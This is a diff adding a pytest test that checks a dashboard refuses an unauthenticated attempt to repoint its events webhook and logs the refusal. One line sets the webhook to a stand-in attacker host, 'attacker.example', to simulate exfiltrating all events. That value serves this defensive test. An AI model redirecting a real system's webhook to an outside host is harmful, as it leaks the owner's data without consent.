@@ -145,3 +145,22 @@ def test_logged_in_client_can_stop(backend: Dashboard, target: tuple[str, psutil
         sock.emit(handler("ask_stop"), {"op_id": op_id, "name": "event-target", "source": "launched"})
         sock.emit(handler("confirm_stop"), {"force": True})
         wait_until(lambda: not alive(process), timeout=60, message="the logged-in stop did not stop the target")
+
+
+def test_webhook_change_needs_login(backend: Dashboard) -> None:
+    """Pointing the webhook elsewhere would send every event out: a change like any other."""
+    events_state = pytest.importorskip("dgx_spark.state.events").EventsState
+    name = events_state.get_full_name()
+    with ReflexSocket(backend.port) as sock:
+        sock.emit(f"{name}.edit_webhook", {"value": "http://attacker.example/hook"})
+        sock.emit(f"{name}.save_webhook", {})
+        wait_until(
+            lambda: "Log in first" in json.dumps(sock.next_update(60)), timeout=90, interval=0,
+            message="saving the webhook without login was not refused",
+        )
+
+    def refused() -> list[dict[str, Any]]:
+        _, body = backend.authed("GET", "/api/dgx/audit?action=webhook&outcome=refused")
+        return body["data"]
+
+    assert wait_until(refused, timeout=30)[0]["via"] == "ui"
